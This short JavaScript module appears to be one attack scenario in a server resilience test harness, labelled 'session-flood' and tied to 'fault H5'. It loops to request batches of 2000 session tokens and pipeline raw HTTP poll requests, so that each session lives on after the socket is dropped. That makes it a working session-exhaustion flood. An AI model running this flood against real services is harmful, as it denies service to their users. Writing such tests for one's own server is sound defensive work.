// @ts-check
// Sessions from one address, each resumed once so that it lives for a minute without a connection (fault H5).
import { setTimeout as rest } from "node:timers/promises";

/** @type {import("../lib/attacker.js").Attack} */
export default {
  name: "session-flood",
  about: "new sessions from one address, pipelined, each confirmed so that it lives on",
  async run(attacker) {
    while (!attacker.isOver) {
      const tokens = await attacker.tokens(2000, "/session");
      const socket = await attacker.open();
      for (const token of tokens) {
        attacker.send(socket, `GET /session?mode=poll&park=0&after=0&session=${token} HTTP/1.1\r\nHost: a\r\n\r\n`);
      }
      await rest(200);
      socket.destroy();
    }
  },
};
